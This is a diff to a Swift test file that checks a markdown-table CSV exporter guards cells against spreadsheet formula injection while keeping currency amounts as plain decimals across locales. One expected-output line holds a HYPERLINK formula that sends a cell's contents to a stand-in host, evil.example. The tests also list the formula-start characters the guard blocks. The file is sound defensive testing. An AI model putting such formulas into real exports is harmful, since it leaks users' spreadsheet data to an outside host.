@@ -63,10 +63,73 @@ import Testing
         }
     }
 
+    /// One rule says whether a cell is an amount (``SiteLocale/money(parsing:)``), and the table
+    /// CSV and the formula guard both follow it: in every locale, a cell the CSV writes as a plain
+    /// decimal is one the rule reads as an amount, and the other way round; every other cell is the
+    /// text shown, guarded, so that no cell starts with a formula character but an amount's decimal.
+    @Test func theCSVAndTheGuardAgreeOnWhatIsAnAmount() throws {
+        var random = RecurringTests.Seeded(state: 35)
+        let currencies = ["GBP", "EUR", "USD", "JPY", "CHF", "HKD"].compactMap { Currency(code: $0) }
+        let pieces = ["-", "+", "£", "€", "US$", "$", "HK$", "JP¥", "£GB", "GBP\u{A0}", "CHF\u{A0}", "\u{A0}€", "\u{A0}£",
+                      "0", "1", "12", "234", "5.00", ",56", ".", ",", "\u{202F}", "%", " ", "(50%)", "=", "@", "e5",
+                      "\u{202E}", "\u{2066}", "\u{200F}"]
+        let handPicked = ["-£0.01", "£1,234.56", "€5", "12%", "-12%", "£5.00 (50%)", "=1+1", "-", "+", "£", "-£", "",
+                          "\u{202E}-£3.20", "-\u{202E}£3.20", "£3.20\u{2069}", "\u{2066}=1+1\u{2069}", "+£12.50", "-0,01\u{A0}€",
+                          "-1.234,56\u{A0}€", "-1\u{202F}234,56\u{A0}€", "-£0.00", "£1234.56", "-1", "+1", "-1e5", "US$7.00", "$7.00"]
+        let samples = (0..<3_000).map { _ in
+            (0..<Int.random(in: 1...6, using: &random)).map { _ in pieces.randomElement(using: &random)! }.joined()
+        }
+        for locale in SiteLocale.all {
+            // What the locale writes, and a slip of it (a character dropped, a bidi control put in).
+            var written: [String] = []
+            for _ in 0..<300 {
+                let amount = Money(minorUnits: Int128(Int64.random(in: -10_000_000...10_000_000, using: &random)),
+                                   currency: currencies.randomElement(using: &random)!)
+                var text = locale.format(amount)
+                written.append(text)
+                let place = text.index(text.startIndex, offsetBy: Int.random(in: 0..<text.count, using: &random))
+                if Bool.random(using: &random) { text.remove(at: place) } else { text.insert("\u{202E}", at: place) }
+                written.append(text)
+            }
+            var failures: [String] = []
+            var amounts = 0
+            for text in handPicked + samples + written {
+                // One cell a table: its column's currency then goes in the header.
+                let markdown = "| x |\n| --- |\n| \(Escape.value(text, at: .tableCell)) |\n"
+                guard let table = TableCSV.tables(in: markdown).first, table.rows.count == 2 else { continue }
+                let shown = table.rows[1][0]
+                guard let rows = Self.parse(table.csv(locale: locale)), rows.count == 2, let cell = rows[1].first else {
+                    failures.append("\(text.debugDescription): not one cell"); continue
+                }
+                let bare = Text.withoutBidiControls(shown)
+                let amount = locale.money(parsing: bare)
+                if let amount {
+                    amounts += 1
+                    let decimal = rows[0] == ["x (\(amount.currency.code))"] ? Self.money(decimal: cell, currency: amount.currency.code) : nil
+                    if decimal != amount { failures.append("\(text.debugDescription): an amount written as \(rows.debugDescription)") }
+                } else {
+                    // The guard's own oracle: OWASP's characters, a `'` before them, nothing exempt.
+                    let expected = ["=", "+", "-", "@", "\t", "\r"].contains(bare.first.map(String.init) ?? "") ? "'" + bare : bare
+                    if rows != [["x"], [expected]] { failures.append("\(text.debugDescription): text written as \(rows.debugDescription)") }
+                }
+                if let first = cell.unicodeScalars.first, CSVCell.formulaStarts.contains(first), amount == nil {
+                    failures.append("\(text.debugDescription): \(cell.debugDescription) starts a formula")
+                }
+            }
+            #expect(amounts > 300, "\(locale.identifier): \(amounts) amounts")
+            #expect(failures.isEmpty, "\(locale.identifier): \(failures.count): \(failures.prefix(8))")
+        }
+        // The hand-picked cells in en_GB, as a spreadsheet gets them.
+        let csv = { (text: String) in Self.parse(TableCSV.tables(in: "| x |\n| --- |\n| \(text) |\n").first!.csv(locale: .enGB))?.last?.first }
+        #expect(csv("-£0.01") == "-0.01" && csv("£1,234.56") == "1234.56" && csv("\u{202E}-£3.20") == "-3.20")
+        #expect(csv("€5") == "€5" && csv("12%") == "12%" && csv("-12%") == "'-12%" && csv("£5.00 (50%)") == "£5.00 (50%)")
+        #expect(csv("=1+1") == "'=1+1" && csv("-") == "'-" && csv("£1234.56") == "£1234.56" && csv("+£12.50") == "12.50")
+    }
+
     @Test func aColumnOfSeveralCurrenciesGetsACurrencyColumn() throws {
         let markdown = "| Account | Balance | Share |\n| --- | ---: | ---: |\n| A | -£1,234.56 | -12% |\n| B | US$7.00 | 3% |\n| C | – | – |\n"
         let csv = try #require(TableCSV.tables(in: markdown).first).csv(locale: .enGB)
-        #expect(csv == "Account,Balance,Balance currency,Share\r\nA,-1234.56,GBP,-12%\r\nB,7.00,USD,3%\r\nC,–,,–\r\n")
+        #expect(csv == "Account,Balance,Balance currency,Share\r\nA,-1234.56,GBP,'-12%\r\nB,7.00,USD,3%\r\nC,–,,–\r\n")
         let named = try #require(TableCSV.tables(in: "| Account | In GBP |\n| --- | --: |\n| A | £2.00 |\n").first).csv(locale: .enGB)
         #expect(named == "Account,In GBP\r\nA,2.00\r\n")
     }
@@ -86,11 +149,11 @@ import Testing
         let table = try #require(TableCSV.tables(in: markdown).first)
         #expect(table.rows[1][0] == payee)
         let csv = table.csv(locale: .enGB)
-        // The formulas are guarded; the amount is a plain decimal (its currency in the header), and a
-        // bare number, which holds no formula, stays a figure a spreadsheet reads.
-        #expect(csv == "Payee,Amount (GBP)\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",-1234.56\r\n'@SUM(A1),+1\r\n")
+        // The formulas are guarded; the amount is a plain decimal (its currency in the header); a
+        // signed number that is no amount is text, guarded as any other.
+        #expect(csv == "Payee,Amount (GBP)\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",-1234.56\r\n'@SUM(A1),'+1\r\n")
         let parsed = try #require(Self.parse(csv))
-        #expect(parsed.map(\.[0]).allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") })
+        #expect(parsed.joined().allSatisfy { field in !["=", "+", "-", "@"].contains(field.first.map(String.init) ?? "") || field == "-1234.56" })
     }
 
     @Test func nonASCIIAndBidiControls() throws {
